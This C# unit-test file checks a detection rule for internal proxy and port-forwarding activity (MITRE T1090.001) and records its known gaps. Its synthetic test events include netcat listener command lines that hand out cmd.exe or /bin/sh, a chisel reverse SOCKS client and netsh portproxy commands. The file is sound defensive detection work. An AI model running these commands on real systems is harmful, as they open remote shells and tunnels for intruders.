using System.Linq;
using RuleGen.Ecs;
using static RuleGen.Tests.Detection.TestEvents;

namespace RuleGen.Tests.Detection;

// The flagship rule, rules/internal_proxy_t1090_001.eql, compiled by the generator as written.
public class FlagshipRuleTests
{
    private static readonly string[] PortproxyArgs = { "netsh", "interface", "portproxy", "add", "v4tov4", "listenport=8080", "listenaddress=0.0.0.0", "connectport=80", "connectaddress=10.0.0.5" };

    private static InternalProxyT1090001Detector NewDetector() => new();

    [Fact]
    public void NetshPortproxyAdd_Fires()
    {
        Fires(NewDetector(), Process("netsh.exe", PortproxyArgs, parentName: "cmd.exe")).ShouldBeTrue();
    }

    [Fact]
    public void SshLocalForward_Fires()
    {
        Fires(NewDetector(), Process("ssh.exe", new[] { "ssh.exe", "-L", "9090:192.168.1.50:445", "user@jump" })).ShouldBeTrue();
    }

    [Fact]
    public void ChiselReverseSocks_Fires()
    {
        Fires(NewDetector(), Process("chisel", new[] { "chisel", "client", "203.0.113.10:8000", "R:socks" })).ShouldBeTrue();
    }

    // EQL ':' without a wildcard compares the whole value, so "chisel" matches neither the name "chisel.exe"
    // nor the full path in args[0]: the rule as written misses chisel.exe started by path.
    [Fact]
    public void ChiselExeByFullPath_Missed()
    {
        Fires(NewDetector(), Process("chisel.exe", new[] { "C:\\tools\\chisel.exe", "client", "203.0.113.10:8000", "R:socks" })).ShouldBeFalse();
    }

    [Fact]
    public void NetcatListenerExecutingCmd_Fires()
    {
        Fires(NewDetector(), Process("nc.exe", new[] { "nc.exe", "-l", "-p", "4444", "-e", "cmd.exe" })).ShouldBeTrue();
    }

    // The name list has "nc.exe" and "ncat" but not "nc" or "nc64.exe": Linux netcat and nc64.exe are missed.
    [Fact]
    public void NetcatUnderOtherNames_Missed()
    {
        Fires(NewDetector(), Process("nc", new[] { "nc", "-l", "-p", "4444", "-e", "/bin/sh" })).ShouldBeFalse();
        Fires(NewDetector(), Process("nc64.exe", new[] { "nc64.exe", "10.0.2.11", "3001", "-e", "cmd.exe" })).ShouldBeFalse();
    }

    [Fact]
    public void LinuxSshDynamicForward_Fires()
    {
        Fires(NewDetector(), Process("ssh", new[] { "ssh", "-N", "-D", "1080", "ops@bastion" })).ShouldBeTrue();
    }

    // ':' is case-insensitive, so "-L" also matches ssh's login option "-l": the rule fires on a plain login.
    [Fact]
    public void SshLoginOption_FiresBecauseColonIgnoresCase()
    {
        Fires(NewDetector(), Process("ssh", new[] { "ssh", "-l", "alice", "build01" })).ShouldBeTrue();
    }

    [Fact]
    public void SshWithoutForwarding_Silent()
    {
        Fires(NewDetector(), Process("ssh", new[] { "ssh", "alice@build01" })).ShouldBeFalse();
    }

    [Fact]
    public void CommandLineBranch_FiresForWrapper()
    {
        EcsEvent wrapper = Process("cmd.exe", new[] { "cmd", "/c", "netsh", "interface", "portproxy", "add", "v4tov4", "listenport=8080" });

        Fires(NewDetector(), wrapper).ShouldBeTrue();
    }

    [Fact]
    public void ProcessEnd_Silent()
    {
        EcsEvent end = Process("nc.exe", new[] { "nc.exe", "-l" });
        end.Event!.Type = new[] { "end" };

        Fires(NewDetector(), end).ShouldBeFalse();
    }

    [Fact]
    public void MissingHostName_Silent()
    {
        Fires(NewDetector(), Process("nc.exe", new[] { "nc.exe", "-l" }, host: null)).ShouldBeFalse();
    }

    [Fact]
    public void InstallerNetsh_SameEventSuppressed()
    {
        Fires(NewDetector(), Process("netsh.exe", PortproxyArgs, parentName: "msiexec.exe")).ShouldBeFalse();
    }

    [Fact]
    public void InstallerNetsh_WithinMaxspanSuppresses()
    {
        EcsEvent installer = Process("netsh.exe", new[] { "netsh", "advfirewall", "set", "allprofiles", "state", "on" }, seconds: 0, parentName: "setup.exe");
        EcsEvent portproxy = Process("netsh.exe", PortproxyArgs, seconds: 300, parentName: "cmd.exe");

        Run(NewDetector(), installer, portproxy).ShouldBeEmpty();
    }

    [Fact]
    public void InstallerNetsh_BeyondMaxspanDoesNotSuppress()
    {
        EcsEvent installer = Process("netsh.exe", new[] { "netsh", "advfirewall", "set", "allprofiles", "state", "on" }, seconds: 0, parentName: "setup.exe");
        EcsEvent portproxy = Process("netsh.exe", PortproxyArgs, seconds: 300.001, parentName: "cmd.exe");

        Run(NewDetector(), installer, portproxy).Single().Events.ShouldBe(new[] { portproxy });
    }

    [Fact]
    public void InstallerNetsh_OtherHostDoesNotSuppress()
    {
        EcsEvent installer = Process("netsh.exe", new[] { "netsh", "advfirewall" }, host: "h2", seconds: 0, parentName: "msiexec.exe");
        EcsEvent portproxy = Process("netsh.exe", PortproxyArgs, host: "h1", seconds: 10, parentName: "cmd.exe");

        Run(NewDetector(), installer, portproxy).Count.ShouldBe(1);
    }

    // Only events at or before the match suppress it; an alert already raised stays raised.
    [Fact]
    public void InstallerNetsh_AfterMatchDoesNotSuppress()
    {
        EcsEvent portproxy = Process("netsh.exe", PortproxyArgs, seconds: 0, parentName: "cmd.exe");
        EcsEvent installer = Process("netsh.exe", new[] { "netsh", "advfirewall" }, seconds: 10, parentName: "msiexec.exe");

        Run(NewDetector(), portproxy, installer).Count.ShouldBe(1);
    }

    [Fact]
    public void Alert_CarriesFlagshipMetadata()
    {
        Alert alert = Run(NewDetector(), Process("nc.exe", new[] { "nc.exe", "-l" })).Single();

        alert.Rule.Id.ShouldBe("6e45c59d-83f6-414a-ab63-fdce8a9b6454");
        alert.Rule.Name.ShouldBe("Internal proxy tool execution or port forwarding");
        alert.Rule.Severity.ShouldBe("high");
        alert.Rule.Mitre.Single().ShouldBe(new MitreTechnique("T1090.001", "Command and Control", "Proxy", "Internal Proxy"));
        alert.Rule.FalsePositives.Count.ShouldBe(3);
        alert.Rule.FalsePositives[0].ShouldContain("SSH tunnels to bastion hosts or databases");
    }
}
